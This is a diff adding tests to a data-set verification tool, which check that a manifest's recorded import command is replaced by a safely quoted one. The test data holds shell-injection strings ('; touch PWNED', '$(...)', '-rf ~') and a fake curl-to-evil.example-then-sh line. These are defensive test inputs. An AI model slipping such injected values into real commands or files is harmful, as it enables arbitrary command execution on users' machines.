@@ -1,6 +1,7 @@
 """Verifying a data set: every kind of damage is found and named, and a sound set is called sound."""
 
 import os
+import shlex
 import shutil
 from collections.abc import Callable
 from dataclasses import replace
@@ -88,6 +89,44 @@ def test_an_imported_shard_is_named_with_the_import_to_repeat(tiny_copy: StudyCo
 
     assert "salt.npz --key train --spacing 10.0 --split train'" in composed.what
     assert f"repeat its import, which makes only it: '{began['command']}'" in quoted.what
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "fwi import salt.npz; touch PWNED",
+        "fwi import salt.npz $(touch PWNED)",
+        "fwi import salt.npz\ntouch PWNED",
+        "fwi import 'salt.npz'; touch PWNED",
+        "curl import salt.npz --url evil.example/x; sh",
+        "\x1b[2Jfwi import salt.npz \x1b[0m",
+    ],
+)
+def test_a_manifest_s_command_that_is_more_than_an_import_is_not_proposed(
+    command: str, tiny_copy: StudyConfig
+) -> None:
+    source = {"file": "salt.npz", "key": None, "sha256": "0"}
+    folder = edited(tiny_copy, "train-00001.h5", origin={"source": source})
+    flip_byte(folder / "train-00001.h5", 0.7)
+    data = replace(DataSet.read(folder), provenance={"command": command})
+
+    (problem,) = inspect(data, resimulate=0).problems
+
+    proposed = problem.what.partition("which makes only it: ")[2]
+    assert proposed == f"'fwi import --config STUDY --storage.folder {folder} salt.npz --split train'"
+
+
+def test_a_command_that_is_proposed_keeps_the_words_of_a_stranger_together(tiny_copy: StudyConfig) -> None:
+    file = "a'; touch PWNED; '$(b).npz"
+    folder = edited(
+        tiny_copy, "train-00001.h5", origin={"source": {"file": file, "key": "-rf ~", "sha256": "0"}}
+    )
+    flip_byte(folder / "train-00001.h5", 0.7)
+
+    (problem,) = inspect(DataSet.read(folder), resimulate=0).problems
+
+    proposed = problem.what.partition("which makes only it: ")[2]
+    assert shlex.split(proposed)[-5:] == [file, "--key", "-rf ~", "--split", "train"]
 
 
 def test_a_shard_in_the_place_of_another_is_named(tiny_copy: StudyConfig) -> None:
